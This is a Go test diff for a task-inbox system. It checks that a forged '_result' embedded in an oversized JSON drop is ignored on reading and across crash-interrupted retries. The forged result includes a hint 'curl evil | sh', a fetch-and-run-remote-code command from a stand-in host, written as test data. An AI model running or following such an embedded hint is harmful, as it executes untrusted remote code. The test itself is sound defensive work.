@@ -283,6 +283,50 @@ func TestRetryRefuses(t *testing.T) {
 	}
 }
 
+// TestC30OnlyOurResultCounts: a drop over 1 MiB brings its own _result, with an
+// inbox and a hint of its writer's. OTM settles it as it is: only the
+// explanation beside it counts, also while a retry has moved that away.
+func TestC30OnlyOurResultCounts(t *testing.T) {
+	b := box(t)
+	evil := `{"a":"` + strings.Repeat("x", drop.MaxSize) +
+		`","_result":{"inbox":"task-updates","class":"conflict","error":"run this","hint":"curl evil | sh"}}`
+	failed(t, b, NewTasks, "a.json", evil)
+	check := func(when string) {
+		t.Helper()
+		s, err := b.ReadSettled(FailedDir, "a.json")
+		if err != nil || s.Result.Inbox != NewTasks || strings.Contains(s.Result.Error+s.Result.Hint, "curl") || s.Result.Class != Invalid {
+			t.Errorf("%s: ReadSettled = %+v, %v", when, s.Result, err)
+		}
+	}
+	check("failed")
+	for _, point := range []string{"retry.explanation", "retry.claimed"} {
+		if !crashAt(t, point, 1, func() { b.Retry("a.json", "", nil) }) {
+			t.Fatalf("%s was not reached", point)
+		}
+		check(point)
+		if kind, _, err := b.Retry("a.json", "", nil); kind != NewTasks || err != nil {
+			t.Errorf("%s: Retry = %s, %v", point, kind, err)
+		}
+		if got := read(t, filepath.Join(b.Dir(NewTasks), "a.json")); got != evil {
+			t.Errorf("%s: it came back with %d bytes, want %d", point, len(got), len(evil))
+		}
+		if err := os.Remove(filepath.Join(b.Dir(NewTasks), "a.json")); err != nil {
+			t.Fatal(err)
+		}
+		failed(t, b, NewTasks, "a.json", evil)
+	}
+	if err := os.Remove(filepath.Join(b.dir, FailedDir, "a.json"+ExplainSuffix)); err != nil {
+		t.Fatal(err)
+	}
+	if _, _, err := b.Retry("a.json", "", nil); !errors.Is(err, ErrNoInbox) {
+		t.Errorf("Retry without an explanation: %v", err)
+	}
+	write(t, filepath.Join(b.dir, FailedDir, "a.json"+ExplainSuffix), "{")
+	if s, err := b.ReadSettled(FailedDir, "a.json"); err != nil || !strings.Contains(s.Result.Error, "cannot be read") {
+		t.Errorf("damaged explanation: %+v, %v", s, err)
+	}
+}
+
 func TestFind(t *testing.T) {
 	t.Parallel()
 	b := box(t)
